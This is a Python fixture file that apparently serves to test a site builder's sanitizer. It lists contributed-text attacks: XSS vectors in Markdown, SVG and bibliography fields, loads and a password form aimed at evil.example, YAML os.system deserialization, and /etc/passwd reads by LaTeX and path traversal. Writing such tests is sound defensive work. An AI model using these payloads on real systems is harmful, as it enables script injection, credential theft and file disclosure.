"""Attacks by contributed text: what a page, a record, an entry or an image might try to bring in."""

# ruff: noqa: E501  (each stands as it would be written)
from __future__ import annotations

# What stands on a page of its own, in Markdown.
MARKDOWN = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "script left open": "<script>alert(1)//",
    "script in a box": '!!! note "A"\n    <script>alert(1)</script>',
    "script in a table": "| a | b |\n|---|---|\n| <script>alert(1)</script> | b |",
    "script in a footnote": "Text[^a].\n\n[^a]: <script>alert(1)</script>",
    "script in a list": "- one\n\n    <script>alert(1)</script>",
    "script behind a comment": "<!-- a\nb --><script>alert(1)</script>",
    "script by a comment that ends early": "<!--> <script>alert(1)</script> -->",
    "image that fails": "<img src=x onerror=alert(1)>",
    "image over three lines": "<img\nsrc=x\nonerror=alert(1)>",
    "image with a slash": "<img/src=x/onerror=alert(1)>",
    "drawing that loads": "<svg onload=alert(1)></svg>",
    "drawing with an animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "details that open": "<details open ontoggle=alert(1)>a</details>",
    "field that takes the focus": "<input autofocus onfocus=alert(1)>",
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "frame with its own page": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "other base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style element": "<style>body{background:url(https://evil.example/x)}</style>",
    "style attribute": '<p style="position:fixed;inset:0">a</p>',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "button of a form": '<button formaction="javascript:alert(1)">a</button>',
    "formula": '<math href="javascript:alert(1)">a</math>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "link to a script": "[a text](javascript:alert(1))",
    "link in mixed case": "[a text](JaVaScRiPt:alert(1))",
    "link in brackets": "[a text](<javascript:alert(1)>)",
    "link on the next line": "[a text](\njavascript:alert(1))",
    "link with its text on two lines": "[a text\nof two lines](javascript:alert(1))",
    "link with brackets in its text": "[a [b] text](javascript:alert(1))",
    "link by a decimal entity": "[a text](&#106;avascript:alert(1))",
    "link by a hexadecimal entity": "[a text](&#x6A;avascript&#58;alert(1))",
    "link by a named entity": "[a text](javascript&colon;alert(1))",
    "link with a tab inside": "[a text](java\tscript:alert(1))",
    "link with an encoded letter": "[a text](%6Aavascript:alert(1))",
    "link with a control sign": "[a text](\x01javascript:alert(1))",
    "link with a title": '[a text](javascript:alert(1) "a title")',
    "link to vbscript": "[a text](vbscript:msgbox(1))",
    "link to data": "[a text](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link to a blob": "[a text](blob:https://evil.example/1)",
    "link to a file": "[a text](file:///etc/passwd)",
    "image by a script": "![a picture](javascript:alert(1))",
    "image as data": "![a picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image from elsewhere": "![a picture](https://evil.example/pixel.png)",
    "image from elsewhere without a scheme": "![a picture](//evil.example/pixel.png)",
    "image by reference": "![a picture][p]\n\n[p]: https://evil.example/pixel.png",
    "image on two lines": "![a\npicture](https://evil.example/pixel.png)",
    "reference": "[a text][r]\n\n[r]: javascript:alert(1)",
    "indented reference": "[a text][r]\n\n  [r]: javascript:alert(1)",
    "reference on the next line": "[a text][r]\n\n[r]:\n    javascript:alert(1)",
    "reference in brackets": "[a text][r]\n\n[r]: <javascript:alert(1)>",
    "short reference": "[r]\n\n[r]: javascript:alert(1)",
    "autolink to a script": "<javascript:alert(1)>",
    "autolink with a handler": '<https://evil.example/" onmouseover="alert(1)>',
    "autolink to an address with a handler": '<a@b.example"onclick=alert(1)>',
    "handler in braces": "[a text](#chapter){ onclick=alert(1) }",
    "handler in capitals in braces": "[a text](#chapter){ ONCLICK=alert(1) }",
    "handler on a heading": "## More { #more onclick=alert(1) }",
    "handler on a paragraph": "Text.\n{: onmouseover=alert(1) }",
    "style in braces": '*a*{ style="position:fixed" }',
    "address in braces": "[a text](#chapter){ href=javascript:alert(1) }",
    "source in braces": "![a picture](x.png){ src=https://evil.example/x.png }",
    "entities that spell a script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "abbreviation with a handler": '*[Text]: a" onmouseover="alert(1)\n\nText.',
    "title that ends early": '[a text](#chapter "a\\" onmouseover=\\"alert(1)")',
    "alternative text that ends early": '![a" onerror="alert(1)](nothing.png)',
    "language of a block of code": '``` x" onmouseover="alert(1)\na\n```',
    "attributes of a block of code": "``` { .x onclick=alert(1) }\na\n```",
    "definition list": "Term\n:   <script>alert(1)</script>",
    "HTML that holds Markdown": '<div markdown="1" onclick="alert(1)">\n[a](javascript:alert(1))\n</div>',
    "title of a box": '!!! note "<img src=x onerror=alert(1)>"\n    Text.',
}

# Records: the field `why` of a finding.
RECORDS = {
    "script": "A <script>alert(1)</script>.",
    "image": "A <img src=x onerror=alert(1)>.",
    "link": "See [it](javascript:alert(1)).",
    "braces": "'A { onclick=alert(1) } word.'",
    "comment": "A <!-- records: findings --> word.",
    "code that is run": "!!python/object/apply:os.system ['true']",
    "entities": "A &lt;script&gt;alert(1)&lt;/script&gt; word.",
}

# Entries of the bibliography: fields of one.
ENTRIES = {
    "script in a title": "title = {A <script>alert(1)</script>}",
    "entity in a title": "title = {A &lt;script&gt;}",
    "image in an author": "title = {A}, author = {<img src=x onerror=alert(1)>}",
    "script as address": "title = {A}, url = {javascript:alert(1)}",
    "data as address": "title = {A}, url = {data:text/html,x}",
    "handler behind an address": 'title = {A}, url = {https://a.example/" onclick="alert(1)}',
    "markup in a DOI": "title = {A}, doi = {10.1000/<script>alert(1)</script>}",
    "command in a title": r"title = {A \input{/etc/passwd}}",
    "markup in a note": "title = {A}, note = {<iframe src=x>}",
    "link in a title": "title = {A [word](javascript:alert(1))}",
}

# Front matter: one of its lines.
FRONT = {
    "script in the title": "title: <script>alert(1)</script>",
    "quotation mark in the description": "description: 'a\"><script>alert(1)</script>'",
    "template of another page": "template: ../../../etc/passwd",
    "code that is run": "title: !!python/object/apply:os.system ['true']",
}

# Images: whole files.
IMAGES: dict[str, str | bytes] = {
    "script": "<svg xmlns='http://www.w3.org/2000/svg'>\n<script>alert(1)</script></svg>",
    "handler": "<svg xmlns='http://www.w3.org/2000/svg'\nonload='alert(1)'></svg>",
    "link to a script": "<svg xmlns='http://www.w3.org/2000/svg'>\n<a href='javascript:alert(1)'><text>a</text></a></svg>",
    "old link to a script": "<svg>\n<a xlink:href='java&#10;script:alert(1)'><text>a</text></a></svg>",
    "image from elsewhere": "<svg>\n<image href='https://evil.example/x.png'/></svg>",
    "part of another file": "<svg>\n<use href='https://evil.example/x.svg#a'/></svg>",
    "page inside": "<svg>\n<foreignObject><iframe src='x'/></foreignObject></svg>",
    "animation that sets an address": "<svg>\n<a><set attributeName='href' to='javascript:alert(1)'/></a></svg>",
    "style that loads": "<svg>\n<style>@import url(https://evil.example/x.css);</style></svg>",
    "entities": "<!DOCTYPE svg [<!ENTITY a 'b'>]>\n<svg>&a;</svg>",
    "style sheet": "<?xml-stylesheet href='https://evil.example/x.css'?>\n<svg/>",
    "script with a prefix": "<s:svg xmlns:s='http://www.w3.org/2000/svg'>\n<s:script>alert(1)</s:script></s:svg>",
    "script of HTML": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'>\n<h:script>alert(1)</h:script></svg>",
    "script in UTF-16": "<svg xmlns='http://www.w3.org/2000/svg'>\n<script>alert(1)</script></svg>".encode(
        "utf-16"
    ),
    "script in UTF-16 without a mark": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".encode(
        "utf-16-be"
    ),
    "script in UTF-7": "<?xml version='1.0' encoding='UTF-7'?>\n<svg xmlns='http://www.w3.org/2000/svg'>+ADw-script+AD4-</svg>",
    "script behind a broken element": "<svg xmlns='http://www.w3.org/2000/svg'>\n<g><script>alert(1)</script></svg>",
    "handler with a prefix": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:e='http://www.w3.org/2001/xml-events'\ne:onload='alert(1)'/>",
    "style attribute that loads": "<svg xmlns='http://www.w3.org/2000/svg'>\n<path style='fill:url(https://evil.example/x)'/></svg>",
    "style attribute that loads by an escape": "<svg xmlns='http://www.w3.org/2000/svg'>\n<path style='fill:\\75rl(https://evil.example/x)'/></svg>",
    "filter from elsewhere": "<svg xmlns='http://www.w3.org/2000/svg'>\n<path filter='url(https://evil.example/x.svg#a)'/></svg>",
    "filter from elsewhere in quotation marks": "<svg xmlns='http://www.w3.org/2000/svg'>\n<path filter=\"url( 'https://evil.example/x#a')\"/></svg>",
    "style cut in two": "<svg xmlns='http://www.w3.org/2000/svg'>\n<style>@imp<![CDATA[ort]]> 'https://evil.example/x.css';</style></svg>",
    "style cut in two by a comment": "<svg xmlns='http://www.w3.org/2000/svg'>\n<style>@imp<!-- a -->ort 'https://evil.example/x.css';</style></svg>",
    "style within a style": "<svg xmlns='http://www.w3.org/2000/svg'>\n<style><style/>@import 'https://evil.example/x.css';</style></svg>",
    "style with a set of pictures": "<svg xmlns='http://www.w3.org/2000/svg'>\n<style>a{fill:image-set('https://evil.example/x' 1x)}</style></svg>",
    "base of all addresses": "<svg xmlns='http://www.w3.org/2000/svg'\nxml:base='https://evil.example/'/>",
}

# Files that would be published as they stand.
FILES = ("assets/images/page.html", "assets/evil.js", "page.xhtml", "assets/images/a.svgz")
